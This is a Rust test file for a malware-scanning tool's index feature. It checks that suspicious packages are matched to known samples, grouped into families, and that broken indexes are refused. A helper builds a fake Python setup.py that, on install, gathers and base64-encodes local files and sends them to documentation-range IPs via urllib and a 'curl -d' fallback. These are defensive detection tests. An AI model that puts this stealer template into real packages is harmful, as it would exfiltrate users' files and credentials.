//! Indexes of known malware.

use std::fs;

use crate::User;

/// An inert package with the shape of a stealer; its hosts are for documentation.
fn sample(host: &str, [send, list, found]: [&str; 3]) -> Vec<u8> {
    let setup = format!(
        "import base64, json, os, subprocess\nimport urllib.request as request\nfrom setuptools import setup\n\n\
         def {list}(root):\n    {found} = {{}}\n    for folder, _, names in os.walk(root):\n        for name in names:\n            \
         if name.endswith('.ldb') or name.startswith('log'):\n                with open(os.path.join(folder, name), 'rb') as file:\n                    \
         {found}[name] = base64.b64encode(file.read()).decode()\n    return {found}\n\n\
         def {send}(data):\n    body = json.dumps({{'user': os.getlogin(), 'data': data}}).encode()\n    try:\n        \
         return request.urlopen(request.Request('http://{host}/', data=body, headers={{'X': '{host}'}}))\n    \
         except Exception:\n        return subprocess.run(['curl', '-d', body.decode(), 'http://{host}/'], check=False)\n\n\
         {send}({list}(os.path.expanduser('~/.config/example')))\nsetup(name='x', version='1.0')\n"
    );
    testkit::archive::tgz(&[("x-1.0/setup.py", setup.as_bytes())])
}

fn first() -> Vec<u8> {
    sample("198.51.100.7", ["post", "gather", "kept"])
}

fn second() -> Vec<u8> {
    sample("203.0.113.9", ["ship", "walk", "loot"])
}

#[test]
fn what_resembles_a_known_sample_is_named_under_any_name() {
    let user = User::new();
    user.file("first.tar.gz", first());
    user.file("second.tar.gz", second());
    user.file("plain.tgz", crate::clean());
    user.file("known.tsv", "# what was found\nfirst.tar.gz\tfamily-a\tnot read\n");
    user.run(&["index", "build", "known.index", "known.tsv"]).ended(0, &["1 sample", "1 piece"]);
    user.run(&["index", "info", "known.index"]).ended(0, &["1 sample", "sha256 "]);
    user.run(&["index", "find", "known.index", "second.tar.gz"]).ended(0, &["family-a", "setup.py", "first.tar.gz"]);
    user.run(&["index", "find", "known.index", "plain.tgz"]).ended(0, &["resembles no known sample"]);
    user.run(&["index", "cluster", "known.index"]).ended(0, &["group 1, 1 sample", "family-a"]);
    let inspect = ["inspect", "second.tar.gz", "--index", "known.index"];
    user.run(&inspect).ended(20, &["resembles-known-malware", "family-a"]);
    // The analysis without an index is another one, and is not taken from the cache.
    let without = user.run(&["inspect", "second.tar.gz"]);
    assert!(!without.out.contains("resembles-known-malware"), "{}", without.out);
    user.run(&inspect).ended(20, &["resembles-known-malware", "family-a"]);
}

#[test]
fn the_users_settings_name_an_index() {
    let user = User::new();
    user.file("first.tar.gz", first());
    user.file("second.tar.gz", second());
    user.run(&["index", "build", "known.index", "first.tar.gz"]).ended(0, &["1 sample"]);
    fs::create_dir_all(user.path().join(".config/lazaret")).expect("a folder");
    fs::rename(user.path().join("known.index"), user.path().join(".config/lazaret/known.index")).expect("moved");
    user.file(".config/lazaret/lazaret.toml", "index = \"known.index\"\n");
    user.run(&["inspect", "second.tar.gz"]).ended(20, &["resembles-known-malware", "first.tar.gz"]);
}

#[test]
fn code_of_honest_packages_is_in_no_index() {
    let user = User::new();
    user.file("first.tar.gz", first());
    user.file("honest.tar.gz", second());
    user.file("honest.txt", "honest.tar.gz\n");
    user.run(&["index", "build", "known.index", "first.tar.gz", "--honest", "honest.txt"]).ended(0, &["0 pieces"]);
}

#[test]
fn the_same_list_makes_the_same_index() {
    let user = User::new();
    user.file("first.tar.gz", first());
    user.file("plain.tgz", crate::clean());
    user.run(&["index", "build", "one.index", "first.tar.gz", "plain.tgz"]).ended(0, &[]);
    user.run(&["index", "build", "other.index", "plain.tgz", "first.tar.gz"]).ended(0, &[]);
    let read = |name| fs::read(user.path().join(name)).expect("an index");
    assert!(read("one.index") == read("other.index"));
}

#[test]
fn what_is_no_index_is_refused() {
    let user = User::new();
    user.file("first.tar.gz", first());
    user.run(&["index", "build", "known.index", "first.tar.gz"]).ended(0, &[]);
    let mut bytes = fs::read(user.path().join("known.index")).expect("an index");
    user.file("cut.index", &bytes[..bytes.len() - 1]);
    *bytes.last_mut().expect("not empty") ^= 1;
    user.file("changed.index", &bytes);
    user.file("empty.index", "");
    for name in ["cut.index", "changed.index", "empty.index", "first.tar.gz", "missing.index"] {
        user.run(&["inspect", "first.tar.gz", "--index", name]).ended(2, &[name, "cannot be used"]);
        user.run(&["index", "info", name]).ended(2, &[name, "cannot be used"]);
    }
}

#[test]
fn what_cannot_be_read_is_left_out_and_said() {
    let user = User::new();
    user.file("first.tar.gz", first());
    user.run(&["index", "build", "known.index", "first.tar.gz", "missing.tar.gz"])
        .ended(3, &["missing.tar.gz", "1 sample"]);
    user.run(&["index", "build", "known.index", "missing.tar.gz"]).ended(2, &["none of the known samples"]);
}
